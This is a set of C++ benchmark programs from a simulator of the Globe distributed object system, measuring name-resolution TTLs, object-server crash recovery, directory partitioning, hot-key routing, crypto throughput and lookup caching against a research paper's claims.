  bench::Title("E5 bench_binding", "bind cost breakdown + DNS TTL sweep (paper 3.4, 5)");

  gdn::GdnWorldConfig config;
  config.fanouts = {2, 2, 2};
  gdn::GdnWorld world(config);
  auto oid = world.PublishPackage("/apps/bind/target", {{"f", Bytes(1000, 1)}},
                                  dso::kProtoMasterSlave, 0);
  if (!oid.ok()) {
    std::printf("publish failed\n");
    return 1;
  }

  // ---- Part 1: cold vs warm bind breakdown (far user). ----
  sim::NodeId user = world.user_hosts().back();
  BindPhases cold = MeasureBind(world, user, "/apps/bind/target");
  BindPhases warm = MeasureBind(world, user, "/apps/bind/target");

  bench::Table breakdown({"bind", "GNS resolve", "GLS lookup", "install", "total"});
  breakdown.Row({"cold", bench::Ms(cold.gns_us), bench::Ms(cold.gls_us),
                 bench::Ms(cold.install_us),
                 bench::Ms(cold.gns_us + cold.gls_us + cold.install_us)});
  breakdown.Row({"warm", bench::Ms(warm.gns_us), bench::Ms(warm.gls_us),
                 bench::Ms(warm.install_us),
                 bench::Ms(warm.gns_us + warm.gls_us + warm.install_us)});

  // ---- Part 2: TTL sweep — resolver hit ratio over spaced re-binds. ----
  bench::Note("");
  bench::Note("TTL sweep: 30 name resolutions spaced 120 s apart, same country resolver");
  bench::Table ttl_table({"TXT TTL", "cache hits", "upstream", "hit ratio"});
  for (uint32_t ttl : {0u, 60u, 300u, 1800u, 3600u}) {
    gdn::GdnWorldConfig sweep_config;
    sweep_config.fanouts = {2, 2, 2};
    sweep_config.gns_record_ttl = ttl;
    gdn::GdnWorld sweep_world(sweep_config);
    auto sweep_oid = sweep_world.PublishPackage("/apps/ttl/pkg", {{"f", Bytes(100, 1)}},
                                                dso::kProtoMasterSlave, 0);
    if (!sweep_oid.ok()) {
      std::printf("publish failed\n");
      return 1;
    }
    sim::NodeId client = sweep_world.user_hosts()[0];
    size_t country = static_cast<size_t>(sweep_world.CountryOf(client));
    dns::GnsClient gns(sweep_world.transport(), client, sweep_world.config().zone,
                       sweep_world.naming_authority()->endpoint(),
                       sweep_world.ResolverEndpointFor(client));
    for (int i = 0; i < 30; ++i) {
      gns.Resolve("/apps/ttl/pkg", [](Result<std::string>) {});
      sweep_world.Run();
      sweep_world.simulator().RunUntil(sweep_world.simulator().Now() + 120 * sim::kSecond);
    }
    const auto& stats = sweep_world.ResolverOf(country)->stats();
    double ratio = stats.queries > 0
                       ? static_cast<double>(stats.cache_hits) / static_cast<double>(30)
                       : 0;
    ttl_table.Row({Fmt("%u s", ttl), Fmt("%llu", (unsigned long long)stats.cache_hits),
                   Fmt("%llu", (unsigned long long)stats.upstream_queries),
                   Fmt("%.2f", ratio)});
  }

  bench::Note("");
  bench::Note("expected shape (paper): the GNS phase dominates a cold bind from afar and");
  bench::Note("drops to a local resolver hit when warm; hit ratio rises with TTL and");
  bench::Note("reaches ~1 once the TTL exceeds the 120 s re-bind spacing, confirming the");
  bench::Note("stable-mapping assumption that justifies building the GNS on DNS.");
  return 0;
}
