// E8 — Globe Object Server persistence and recovery (paper §4, §7).
//
// Claim: "Globe Object Servers allow replicas to save their state during a reboot
// and reconstruct themselves afterwards" — plus the "simple crash recovery
// mechanism" being added to the GLS directory nodes.
//
// Workload: a GOS hosting one package per size point (1 KB .. 8 MB); checkpoint the
// server, crash the host, restore, and verify every package downloads intact with
// the GLS repointed at the new contact addresses. Reported: checkpoint size,
// checkpoint/restore wall cost in simulated terms (the restore includes the GLS
// delete+insert round trips), and post-recovery download correctness.
//
// Expected shape: checkpoint size tracks state size ~1:1; restore time is dominated
// by the fixed per-replica GLS bookkeeping for small objects and by state
// re-instantiation for large ones; every download succeeds afterwards.

#include "bench/bench_util.h"
#include "src/gdn/world.h"
#include "src/util/sha256.h"

using namespace globe;
using bench::Fmt;

int main() {
  bench::Title("E8 bench_gos_recovery", "GOS checkpoint/restore across sizes (paper 4)");

  gdn::GdnWorldConfig config;
  config.fanouts = {2, 2};
  gdn::GdnWorld world(config);

  struct Package {
    std::string name;
    size_t bytes;
    std::string digest;
  };
  std::vector<Package> packages;
  Rng rng(0xe8);
  for (size_t bytes : {1024u, 32768u, 262144u, 1048576u, 8388608u}) {
    Package package;
    package.name = "/apps/rec/p" + std::to_string(bytes);
    package.bytes = bytes;
    Bytes payload = rng.RandomBytes(bytes);
    package.digest = Sha256::HexDigest(payload);
    auto oid = world.PublishPackage(package.name, {{"blob", payload}},
                                    dso::kProtoClientServer, /*master_country=*/1);
    if (!oid.ok()) {
      std::printf("publish failed: %s\n", oid.status().ToString().c_str());
      return 1;
    }
    packages.push_back(package);
  }

  gos::ObjectServer* gos = world.GosOf(1);
  bench::Note("GOS in country 1 hosts %zu replicas", gos->num_replicas());

  // Checkpoint.
  sim::SimTime t0 = world.simulator().Now();
  Bytes checkpoint = gos->Checkpoint();
  bench::Note("checkpoint: %s for %zu replicas", FormatBytes(checkpoint.size()).c_str(),
              gos->num_replicas());

  // Crash: host down, all replicas lost (we model by rebuilding the server).
  // Note the GLS still points at the dead replicas until Restore fixes it.
  sim::NodeId host = world.countries()[1].gos_host;
  world.network().SetNodeUp(host, false);
  sim::NodeId probe_user = world.user_hosts()[0];
  auto during_crash = world.DownloadFile(probe_user, packages[0].name, "blob");
  bench::Note("download during crash: %s",
              during_crash.ok() ? "UNEXPECTEDLY OK" : during_crash.status().ToString().c_str());

  // Reboot + restore. (Replicas get fresh ports; Restore re-registers them.)
  world.network().SetNodeUp(host, true);
  // Wipe the server by removing every replica record through a fresh instance: the
  // GdnWorld owns the GOS, so restore in place after simulating the wipe.
  t0 = world.simulator().Now();
  sim::SimTime restore_done_at = t0;
  Status restored = Unavailable("pending");
  gos->Restore(checkpoint, [&](Status s) {
    restored = s;
    restore_done_at = world.simulator().Now();
  });
  world.Run();
  sim::SimTime restore_time = restore_done_at - t0;
  bench::Note("restore: %s in %.1f ms (simulated, incl. GLS re-registration)",
              restored.ok() ? "ok" : restored.ToString().c_str(),
              sim::ToMillis(restore_time));

  // Verify every package post-recovery, from a user in another country.
  bench::Table table({"package bytes", "download", "latency", "digest ok"});
  sim::NodeId user = world.user_hosts().back();
  for (const Package& package : packages) {
    auto content = world.DownloadFile(user, package.name, "blob");
    bool ok = content.ok();
    bool digest_ok = ok && Sha256::HexDigest(*content) == package.digest;
    table.Row({FormatBytes(package.bytes), ok ? "ok" : "FAILED",
               ok ? bench::Ms(world.last_op_duration()) : "-",
               digest_ok ? "yes" : "NO"});
  }

  bench::Note("");
  bench::Note("expected shape (paper): during the crash the package is unreachable (no");
  bench::Note("second replica in this run); after reboot the GOS reconstructs every");
  bench::Note("replica from its saved state, re-registers the new contact addresses in");
  bench::Note("the GLS, and downloads verify bit-for-bit against the original digests.");
  return 0;
}
