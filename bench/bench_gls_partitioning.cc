// E2 — root directory-node partitioning (paper §3.5).
//
// Claim: higher-level directory nodes "have to store a lot of forwarding pointers
// and handle a lot of requests... Our solution to this problem is to partition a
// directory node into one or more directory subnodes", each responsible for a slice
// of the OID space via hashing, each on its own machine.
//
// Workload: objects registered on one continent, looked up from another, so every
// lookup crosses the root. Sweep the number of root subnodes; measure per-subnode
// request load, state size and load balance. Expected shape: max-load per subnode
// falls ~1/k while total work stays flat, and hashing keeps the imbalance small.

#include <algorithm>

#include "bench/bench_util.h"
#include "src/gls/deploy.h"

using namespace globe;
using bench::Fmt;

namespace {

struct RunResult {
  uint64_t max_load = 0;
  uint64_t min_load = 0;
  uint64_t total_load = 0;
  size_t max_entries = 0;
};

RunResult RunWith(int root_subnodes, int objects, int lookups_per_object) {
  sim::Simulator simulator;
  sim::UniformWorld world = sim::BuildUniformWorld({2, 2, 2}, 2);
  sim::Network network(&simulator, &world.topology);
  sim::PlainTransport transport(&network);

  gls::GlsDeploymentOptions options;
  options.subnode_count = [root_subnodes](sim::DomainId, int depth) {
    return depth == 0 ? root_subnodes : 1;
  };
  gls::GlsDeployment deployment(&transport, &world.topology, nullptr, options);

  Rng rng(7);
  std::vector<gls::ObjectId> oids;
  auto insert_client = deployment.MakeClient(world.hosts[0]);
  for (int i = 0; i < objects; ++i) {
    gls::ObjectId oid = gls::ObjectId::Generate(&rng);
    insert_client->Insert(oid,
                          gls::ContactAddress{{world.hosts[0], sim::kPortGos}, 1,
                                              gls::ReplicaRole::kMaster},
                          [](Status) {});
    simulator.Run();
    oids.push_back(oid);
  }

  // Lookups from the other continent: all cross the root.
  auto lookup_client = deployment.MakeClient(world.hosts.back());
  for (int round = 0; round < lookups_per_object; ++round) {
    for (const auto& oid : oids) {
      lookup_client->Lookup(oid, [](Result<gls::LookupResult>) {});
    }
    simulator.Run();
  }

  RunResult result;
  result.min_load = ~0ULL;
  for (const auto* subnode : deployment.SubnodesOf(0)) {
    uint64_t load = subnode->stats().lookups;
    result.max_load = std::max(result.max_load, load);
    result.min_load = std::min(result.min_load, load);
    result.total_load += load;
    result.max_entries = std::max(result.max_entries, subnode->TotalEntries());
  }
  return result;
}

}  // namespace

int main() {
  bench::Title("E2 bench_gls_partitioning",
               "root directory node load vs. subnode count (paper 3.5)");

  constexpr int kObjects = 256;
  constexpr int kLookupsPerObject = 4;
  bench::Note("%d objects registered on continent 0, %d root-crossing lookups each",
              kObjects, kLookupsPerObject);

  bench::Table table({"root subnodes", "max lookups", "min lookups", "total", "max entries",
                      "balance"});
  for (int subnodes : {1, 2, 4, 8, 16}) {
    RunResult r = RunWith(subnodes, kObjects, kLookupsPerObject);
    double balance =
        r.max_load > 0 ? static_cast<double>(r.min_load) / static_cast<double>(r.max_load)
                       : 0;
    table.Row({Fmt("%d", subnodes), Fmt("%llu", (unsigned long long)r.max_load),
               Fmt("%llu", (unsigned long long)r.min_load),
               Fmt("%llu", (unsigned long long)r.total_load),
               Fmt("%zu", r.max_entries), Fmt("%.2f", balance)});
  }

  bench::Note("");
  bench::Note("expected shape (paper): per-subnode max load and state shrink ~1/k as the");
  bench::Note("node is partitioned; hashing keeps min/max balance near 1. Total lookup");
  bench::Note("work is constant — partitioning removes the bottleneck, not the work.");
  return 0;
}
