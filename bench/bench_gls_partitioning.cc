// E2 — root directory-node partitioning (paper §3.5).
//
// Claim: higher-level directory nodes "have to store a lot of forwarding pointers
// and handle a lot of requests... Our solution to this problem is to partition a
// directory node into one or more directory subnodes", each responsible for a slice
// of the OID space via hashing, each on its own machine.
//
// Workload: objects registered on one continent, looked up from another, so every
// lookup crosses the root. Sweep the number of root subnodes; measure per-subnode
// request load, state size and load balance. Expected shape: max-load per subnode
// falls ~1/k while total work stays flat, and hashing keeps the imbalance small.

#include <algorithm>
#include <vector>

#include "bench/bench_util.h"
#include "src/gls/deploy.h"
#include "src/sim/backend.h"

using namespace globe;
using bench::Fmt;

namespace {

struct RunResult {
  uint64_t max_load = 0;
  uint64_t min_load = 0;
  uint64_t total_load = 0;
  size_t max_entries = 0;
};

RunResult RunWith(int root_subnodes, int objects, int lookups_per_object) {
  sim::Simulator simulator;
  sim::UniformWorld world = sim::BuildUniformWorld({2, 2, 2}, 2);
  sim::Network network(&simulator, &world.topology);
  sim::PlainTransport transport(&network);

  gls::GlsDeploymentOptions options;
  options.subnode_count = [root_subnodes](sim::DomainId, int depth) {
    return depth == 0 ? root_subnodes : 1;
  };
  gls::GlsDeployment deployment(&transport, &world.topology, nullptr, options);

  Rng rng(7);
  std::vector<gls::ObjectId> oids;
  auto insert_client = deployment.MakeClient(world.hosts[0]);
  for (int i = 0; i < objects; ++i) {
    gls::ObjectId oid = gls::ObjectId::Generate(&rng);
    insert_client->Insert(oid,
                          gls::ContactAddress{{world.hosts[0], sim::kPortGos}, 1,
                                              gls::ReplicaRole::kMaster},
                          [](Status) {});
    simulator.Run();
    oids.push_back(oid);
  }

  // Lookups from the other continent: all cross the root.
  auto lookup_client = deployment.MakeClient(world.hosts.back());
  for (int round = 0; round < lookups_per_object; ++round) {
    for (const auto& oid : oids) {
      lookup_client->Lookup(oid, [](Result<gls::LookupResult>) {});
    }
    simulator.Run();
  }

  RunResult result;
  result.min_load = ~0ULL;
  for (const auto* subnode : deployment.SubnodesOf(0)) {
    uint64_t load = subnode->stats().lookups;
    result.max_load = std::max(result.max_load, load);
    result.min_load = std::min(result.min_load, load);
    result.total_load += load;
    result.max_entries = std::max(result.max_entries, subnode->TotalEntries());
  }
  return result;
}

// ---- Hot-OID skew: hash-only vs power-of-two-choices routing. ----
//
// Hashing balances a *uniform* OID population, but a hot OID still maps every one
// of its requests onto one subnode per level. With per-request service time that
// subnode queues, and the queue is the tail latency. Power-of-two choices spreads
// each hot OID over its home subnode and one deterministic alternate using the
// issuing channel's PeerLoad signal (alternates answer from their sideways-filled
// caches), halving the hottest queue.

struct SkewResult {
  sim::SimTime p50 = 0;
  sim::SimTime p99 = 0;
  double mean_ms = 0;
  uint64_t max_root_load = 0;
  uint64_t sideways = 0;
  size_t failures = 0;
};

SkewResult RunSkewWith(gls::RouteMode mode, int subnodes_per_node) {
  sim::Simulator simulator;
  // Four continents: three of them reach the hot object only through the root.
  sim::UniformWorld world = sim::BuildUniformWorld({4, 2, 2}, 2);
  sim::Network network(&simulator, &world.topology);
  sim::PlainTransport transport(&network);

  gls::GlsDeploymentOptions options;
  options.node_options.enable_cache = true;
  options.node_options.cache_ttl = 600 * sim::kSecond;
  options.node_options.lookup_route_mode = mode;
  options.node_options.service_time = sim::kMillisecond;
  options.subnode_count = [subnodes_per_node](sim::DomainId, int) {
    return subnodes_per_node;
  };
  gls::GlsDeployment deployment(&transport, &world.topology, nullptr, options);

  // A handful of objects on continent 0; oids[0] is the hot spot.
  Rng rng(11);
  std::vector<gls::ObjectId> oids;
  auto insert_client = deployment.MakeClient(world.hosts[0]);
  for (int i = 0; i < 8; ++i) {
    gls::ObjectId oid = gls::ObjectId::Generate(&rng);
    insert_client->Insert(oid,
                          gls::ContactAddress{{world.hosts[0], sim::kPortGos}, 1,
                                              gls::ReplicaRole::kMaster},
                          [](Status) {});
    simulator.Run();
    oids.push_back(oid);
  }

  // Every user host runs a client; arrivals are staggered so queues build from
  // rate, not from one synchronized burst. 80% of requests hit the one hot OID.
  std::vector<std::unique_ptr<gls::GlsClient>> clients;
  for (sim::NodeId host : world.hosts) {
    clients.push_back(deployment.MakeClient(host));
    clients.back()->set_allow_cached(true);
    clients.back()->set_route_mode(mode);
  }

  // Warm the directory caches from both continents so the measured phase sees
  // steady-state behaviour, not cold-start descents.
  for (const gls::ObjectId& oid : oids) {
    for (gls::GlsClient* warmer : {clients.front().get(), clients.back().get()}) {
      warmer->Lookup(oid, [](Result<gls::LookupResult>) {});
      simulator.Run();
    }
  }

  constexpr int kPerClient = 32;
  SkewResult result;
  std::vector<sim::SimTime> latencies;
  sim::SimTime arrival = simulator.Now();
  for (int round = 0; round < kPerClient; ++round) {
    for (size_t c = 0; c < clients.size(); ++c) {
      arrival += 400 * sim::kMicrosecond;
      uint64_t draw = rng.UniformInt(10);
      const gls::ObjectId& oid =
          draw < 8 ? oids[0] : oids[1 + draw % (oids.size() - 1)];
      gls::GlsClient* client = clients[c].get();
      simulator.ScheduleAt(arrival, [&, client, oid] {
        sim::SimTime issued = simulator.Now();
        client->Lookup(oid, [&, issued](Result<gls::LookupResult> r) {
          if (r.ok()) {
            latencies.push_back(simulator.Now() - issued);
          } else {
            ++result.failures;
          }
        });
      });
    }
  }
  simulator.Run();

  std::sort(latencies.begin(), latencies.end());
  if (!latencies.empty()) {
    result.p50 = latencies[latencies.size() / 2];
    result.p99 = latencies[latencies.size() * 99 / 100];
    double total = 0;
    for (sim::SimTime t : latencies) {
      total += static_cast<double>(t);
    }
    result.mean_ms = total / 1000.0 / static_cast<double>(latencies.size());
  }
  for (const auto* subnode : deployment.SubnodesOf(0)) {
    result.max_root_load = std::max(result.max_root_load, subnode->stats().lookups);
  }
  for (const auto& subnode : deployment.subnodes()) {
    result.sideways += subnode->stats().forwards_sideways;
  }
  return result;
}

}  // namespace

int main() {
  bench::Title("E2 bench_gls_partitioning",
               "root directory node load vs. subnode count (paper 3.5)");

  constexpr int kObjects = 256;
  constexpr int kLookupsPerObject = 4;
  bench::Note("%d objects registered on continent 0, %d root-crossing lookups each",
              kObjects, kLookupsPerObject);

  bench::Table table({"root subnodes", "max lookups", "min lookups", "total",
                      "max entries",
                      "balance"});
  for (int subnodes : {1, 2, 4, 8, 16}) {
    RunResult r = RunWith(subnodes, kObjects, kLookupsPerObject);
    double balance =
        r.max_load > 0 ? static_cast<double>(r.min_load) / static_cast<double>(r.max_load)
                       : 0;
    table.Row({Fmt("%d", subnodes), Fmt("%llu", (unsigned long long)r.max_load),
               Fmt("%llu", (unsigned long long)r.min_load),
               Fmt("%llu", (unsigned long long)r.total_load),
               Fmt("%zu", r.max_entries), Fmt("%.2f", balance)});
  }

  bench::Note("");
  bench::Note(
      "expected shape (paper): per-subnode max load and state shrink ~1/k as the");
  bench::Note("node is partitioned; hashing keeps min/max balance near 1. Total lookup");
  bench::Note("work is constant — partitioning removes the bottleneck, not the work.");

  bench::Note("");
  bench::Note("hot-OID skew: 4 continents, 32 clients, 1024 cached lookups, 80%% on one");
  bench::Note("hot OID, 1 ms service time per subnode request, 4 subnodes per node.");
  bench::Table skew({"routing", "p50 latency", "p99 latency", "mean", "hottest root",
                     "sideways", "errors"});
  for (gls::RouteMode mode :
       {gls::RouteMode::kHashOnly, gls::RouteMode::kPowerOfTwoChoices}) {
    SkewResult r = RunSkewWith(mode, 4);
    skew.Row({mode == gls::RouteMode::kHashOnly ? "hash-only" : "power-of-two",
              bench::Ms(r.p50), bench::Ms(r.p99), Fmt("%.1f ms", r.mean_ms),
              Fmt("%llu", (unsigned long long)r.max_root_load),
              Fmt("%llu", (unsigned long long)r.sideways), Fmt("%zu", r.failures)});
  }
  bench::Note("");
  bench::Note(
      "power-of-two choices splits each hot OID between its home subnode and one");
  bench::Note(
      "deterministic alternate (which serves from its sideways-filled cache), so");
  bench::Note(
      "the hottest queue — and with it the p99 — drops vs. hash-only routing.");
  return 0;
}
