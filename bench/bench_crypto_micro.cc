// Wall-clock microbenchmarks (google-benchmark) for the primitives every GDN
// message crosses: SHA-256, HMAC-SHA-256, the CTR keystream cipher, and the manual
// serializers. These are real CPU numbers (not simulated), and calibrate the
// CryptoProfile constants used by the simulated TLS channels in E6.

#include <benchmark/benchmark.h>

#include "src/dso/invocation.h"
#include "src/gdn/package.h"
#include "src/sec/cipher.h"
#include "src/util/hmac.h"
#include "src/util/rng.h"
#include "src/util/serial.h"
#include "src/util/sha256.h"

namespace globe {
namespace {

void BM_Sha256(benchmark::State& state) {
  Rng rng(1);
  Bytes data = rng.RandomBytes(static_cast<size_t>(state.range(0)));
  for (auto _ : state) {
    auto digest = Sha256::Digest(data);
    benchmark::DoNotOptimize(digest);
  }
  state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_Sha256)->Arg(64)->Arg(1024)->Arg(65536)->Arg(1 << 20);

void BM_HmacSha256(benchmark::State& state) {
  Rng rng(2);
  Bytes key = rng.RandomBytes(32);
  Bytes data = rng.RandomBytes(static_cast<size_t>(state.range(0)));
  for (auto _ : state) {
    Bytes mac = HmacSha256(key, data);
    benchmark::DoNotOptimize(mac);
  }
  state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_HmacSha256)->Arg(64)->Arg(1024)->Arg(65536)->Arg(1 << 20);

void BM_StreamCipher(benchmark::State& state) {
  Rng rng(3);
  Bytes key = rng.RandomBytes(32);
  Bytes data = rng.RandomBytes(static_cast<size_t>(state.range(0)));
  uint64_t nonce = 0;
  for (auto _ : state) {
    sec::ApplyKeystream(key, nonce++, &data);
    benchmark::DoNotOptimize(data.data());
  }
  state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_StreamCipher)->Arg(1024)->Arg(65536)->Arg(1 << 20);

void BM_SerializeInvocation(benchmark::State& state) {
  Rng rng(4);
  Bytes content = rng.RandomBytes(static_cast<size_t>(state.range(0)));
  for (auto _ : state) {
    dso::Invocation invocation = gdn::pkg::AddFile("bin/tool", content);
    Bytes wire = invocation.Serialize();
    benchmark::DoNotOptimize(wire);
  }
  state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_SerializeInvocation)->Arg(1024)->Arg(65536);

void BM_DeserializeInvocation(benchmark::State& state) {
  Rng rng(5);
  Bytes content = rng.RandomBytes(static_cast<size_t>(state.range(0)));
  Bytes wire = gdn::pkg::AddFile("bin/tool", content).Serialize();
  for (auto _ : state) {
    auto invocation = dso::Invocation::Deserialize(wire);
    benchmark::DoNotOptimize(invocation);
  }
  state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_DeserializeInvocation)->Arg(1024)->Arg(65536);

void BM_PackageStateRoundTrip(benchmark::State& state) {
  Rng rng(6);
  gdn::PackageObject package;
  for (int i = 0; i < 8; ++i) {
    auto add = gdn::pkg::AddFile("file" + std::to_string(i),
                                 rng.RandomBytes(static_cast<size_t>(state.range(0)) / 8));
    (void)package.Invoke(add);
  }
  for (auto _ : state) {
    Bytes blob = package.GetState();
    gdn::PackageObject restored;
    Status status = restored.SetState(blob);
    benchmark::DoNotOptimize(status);
  }
  state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_PackageStateRoundTrip)->Arg(65536)->Arg(1 << 20);

}  // namespace
}  // namespace globe

BENCHMARK_MAIN();
