// E11 — GLS lookup caching and batched registration (ROADMAP north star: serve
// GDN-scale read traffic "as fast as the hardware allows").
//
// Part 1 — hot-OID read traffic: a popular package's replica lives on one
// continent; clients everywhere else look its OID up over and over (the paper's
// mid-tree bottleneck, §3.5). With per-subnode lookup caches the repeat lookups
// stop at their apex instead of re-walking the descent, so average hops and
// simulated latency drop while the answers stay identical.
//
// Part 2 — registration batching: a Globe Object Server re-registering N replicas
// (e.g. after a reboot, §7) pays N gls.insert round trips; gls.insert_batch
// registers the same set in one round trip per leaf subnode and batches the
// forwarding-pointer chain hops as well.

#include "bench/bench_util.h"
#include "src/gls/deploy.h"
#include "src/sim/backend.h"

using namespace globe;
using bench::Fmt;

namespace {

constexpr int kHotObjects = 16;
constexpr int kRoundsPerClient = 8;

struct RunStats {
  uint64_t lookups = 0;
  uint64_t total_hops = 0;
  sim::SimTime total_latency = 0;
  gls::SubnodeStats directory;
  size_t resident_entries = 0;  // directory entries in memory at the end
  size_t cold_entries = 0;      // entries spilled to the per-subnode cold store
  double wall_seconds = 0;
};

RunStats RunHotReads(bool cached, size_t store_capacity = 0) {
  bench::Stopwatch wall;
  sim::Simulator simulator;
  sim::UniformWorld world = sim::BuildUniformWorld({3, 3, 3}, 2);
  sim::Network network(&simulator, &world.topology);
  sim::PlainTransport transport(&network);

  gls::GlsDeploymentOptions options;
  options.node_options.enable_cache = cached;
  options.node_options.cache_ttl = 24 * 3600 * sim::kSecond;
  options.node_options.store_capacity = store_capacity;
  gls::GlsDeployment deployment(&transport, &world.topology, nullptr, options);

  // Hot objects all live on continent 0.
  Rng rng(42);
  std::vector<gls::ObjectId> oids;
  std::vector<std::pair<gls::ObjectId, gls::ContactAddress>> items;
  for (int i = 0; i < kHotObjects; ++i) {
    gls::ObjectId oid = gls::ObjectId::Generate(&rng);
    oids.push_back(oid);
    items.emplace_back(oid, gls::ContactAddress{{world.hosts[0], sim::kPortGos}, 1,
                                                gls::ReplicaRole::kMaster});
  }
  {
    auto registrar = deployment.MakeClient(world.hosts[0]);
    Status status = Unavailable("pending");
    registrar->InsertBatch(items, [&](Status s) { status = s; });
    simulator.Run();
    if (!status.ok()) {
      std::printf("registration failed: %s\n", status.ToString().c_str());
      std::exit(1);
    }
  }

  // Readers on the two other continents hammer the hot OIDs.
  std::vector<sim::NodeId> readers = {world.hosts[18], world.hosts[24],
                                      world.hosts[36], world.hosts[42]};
  RunStats stats;
  for (int round = 0; round < kRoundsPerClient; ++round) {
    for (sim::NodeId reader : readers) {
      auto client = deployment.MakeClient(reader);
      client->set_allow_cached(cached);
      for (const auto& oid : oids) {
        sim::SimTime started = simulator.Now();
        client->Lookup(oid, [&stats, started, &simulator](Result<gls::LookupResult> r) {
          if (!r.ok()) {
            std::printf("lookup failed: %s\n", r.status().ToString().c_str());
            std::exit(1);
          }
          ++stats.lookups;
          stats.total_hops += r->hops;
          stats.total_latency += simulator.Now() - started;
        });
        simulator.Run();
      }
    }
  }
  stats.directory = deployment.TotalStats();
  for (const auto& subnode : deployment.subnodes()) {
    stats.resident_entries += subnode->StoreResidentEntries();
    stats.cold_entries += subnode->StoreColdEntries();
  }
  stats.wall_seconds = wall.Seconds();
  return stats;
}

struct RegistrationStats {
  uint64_t round_trips = 0;  // client -> leaf directory requests
  sim::SimTime elapsed = 0;
  uint64_t network_messages = 0;  // every message the registration put on the wire
};

RegistrationStats RunRegistration(bool batched, int objects) {
  sim::Simulator simulator;
  sim::UniformWorld world = sim::BuildUniformWorld({3, 3, 3}, 2);
  sim::Network network(&simulator, &world.topology);
  sim::PlainTransport transport(&network);
  gls::GlsDeployment deployment(&transport, &world.topology, nullptr);

  Rng rng(7);
  std::vector<std::pair<gls::ObjectId, gls::ContactAddress>> items;
  for (int i = 0; i < objects; ++i) {
    items.emplace_back(gls::ObjectId::Generate(&rng),
                       gls::ContactAddress{{world.hosts[0], sim::kPortGos}, 1,
                                           gls::ReplicaRole::kMaster});
  }

  // Both variants fire everything up front (a rebooting GOS re-registers its whole
  // replica set at once); elapsed is measured at the last completion callback so
  // the trailing RPC-timeout drain does not inflate it.
  auto client = deployment.MakeClient(world.hosts[0]);
  RegistrationStats stats;
  sim::SimTime started = simulator.Now();
  sim::SimTime last_done = started;
  auto fail = [](Status s) {
    std::printf("registration failed: %s\n", s.ToString().c_str());
    std::exit(1);
  };
  if (batched) {
    client->InsertBatch(items, [&](Status s) {
      if (!s.ok()) fail(s);
      last_done = simulator.Now();
    });
    stats.round_trips = 1;
  } else {
    for (const auto& [oid, address] : items) {
      client->Insert(oid, address, [&](Status s) {
        if (!s.ok()) fail(s);
        last_done = simulator.Now();
      });
    }
    stats.round_trips = items.size();
  }
  simulator.Run();
  stats.elapsed = last_done - started;
  stats.network_messages = network.stats().TotalMessages();
  return stats;
}

}  // namespace

int main() {
  bench::Title("E11 bench_gls_cache",
               "GLS lookup caching + batched registration on the hot paths");

  bench::Note("%d hot objects on continent 0; %d readers x %d rounds from the other",
              kHotObjects, 4, kRoundsPerClient);
  bench::Note("continents; identical lookup results required in both runs.");

  RunStats uncached = RunHotReads(false);
  RunStats cached = RunHotReads(true);

  bench::Table table({"scenario", "lookups", "avg hops", "avg latency", "cache hits",
                      "hit rate"});
  auto row = [&](const char* label, const RunStats& r) {
    double n = static_cast<double>(r.lookups);
    double hit_rate = r.directory.cache_hits + r.directory.cache_misses > 0
                          ? static_cast<double>(r.directory.cache_hits) /
                                static_cast<double>(r.directory.cache_hits +
                                                    r.directory.cache_misses)
                          : 0.0;
    table.Row({label, Fmt("%llu", (unsigned long long)r.lookups),
               Fmt("%.2f", static_cast<double>(r.total_hops) / n),
               bench::Ms(static_cast<double>(r.total_latency) / n),
               Fmt("%llu", (unsigned long long)r.directory.cache_hits),
               Fmt("%.2f", hit_rate)});
  };
  row("uncached", uncached);
  row("cached", cached);

  if (cached.total_hops >= uncached.total_hops ||
      cached.total_latency >= uncached.total_latency) {
    std::printf("caching did not reduce hops/latency\n");
    return 1;
  }

  bench::Note("");
  bench::Note("expected shape: every repeat lookup stops at its apex cache, so the");
  bench::Note("cached run needs roughly half the directory hops per lookup and its");
  bench::Note("average simulated latency drops accordingly.");

  // Memory-bounded directory store, before/after: the same cached workload with
  // each subnode capped below the hot-object count, so the LRU spills and
  // faults entries while every lookup still succeeds with identical results.
  RunStats bounded = RunHotReads(true, /*store_capacity=*/kHotObjects / 2);
  if (bounded.lookups != cached.lookups || bounded.total_hops != cached.total_hops) {
    std::printf("bounded store changed lookup results\n");
    return 1;
  }
  if (bounded.directory.store_evictions == 0 ||
      bounded.directory.store_fault_ins == 0) {
    std::printf("bounded store never spilled/faulted\n");
    return 1;
  }
  bench::Note("");
  bench::Note("memory-bounded subnode store (capacity %d entries per subnode):",
              kHotObjects / 2);
  bench::Table store_table({"store", "resident", "cold", "evictions", "fault-ins",
                            "spilled KB", "wall s"});
  auto store_row = [&](const char* label, const RunStats& r) {
    store_table.Row({label, Fmt("%zu", r.resident_entries),
                     Fmt("%zu", r.cold_entries),
                     Fmt("%llu", (unsigned long long)r.directory.store_evictions),
                     Fmt("%llu", (unsigned long long)r.directory.store_fault_ins),
                     Fmt("%.1f", r.directory.store_spilled_bytes / 1024.0),
                     Fmt("%.3f", r.wall_seconds)});
  };
  store_row("unbounded (before)", cached);
  store_row("bounded (after)", bounded);

  constexpr int kRegistrations = 64;
  RegistrationStats loose = RunRegistration(false, kRegistrations);
  RegistrationStats batched = RunRegistration(true, kRegistrations);

  bench::Note("");
  bench::Note("registering %d replicas from one Globe Object Server:", kRegistrations);
  bench::Table reg_table(
      {"registration", "round trips", "elapsed", "network msgs"});
  reg_table.Row({"64 x gls.insert", Fmt("%llu", (unsigned long long)loose.round_trips),
                 bench::Ms(loose.elapsed),
                 Fmt("%llu", (unsigned long long)loose.network_messages)});
  reg_table.Row({"1 x gls.insert_batch",
                 Fmt("%llu", (unsigned long long)batched.round_trips),
                 bench::Ms(batched.elapsed),
                 Fmt("%llu", (unsigned long long)batched.network_messages)});

  bench::Note("");
  bench::Note("expected shape: the batch pays one client round trip instead of %d and",
              kRegistrations);
  bench::Note("amortizes the pointer chain into one install_ptr_batch hop per level.");
  return 0;
}
