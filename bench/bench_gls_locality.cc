// E1 — GLS lookup locality (paper §3.5, Figure 2).
//
// Claim: "if a distributed shared object has a representative near to the client,
// the Globe Location Service will find that representative using only 'local'
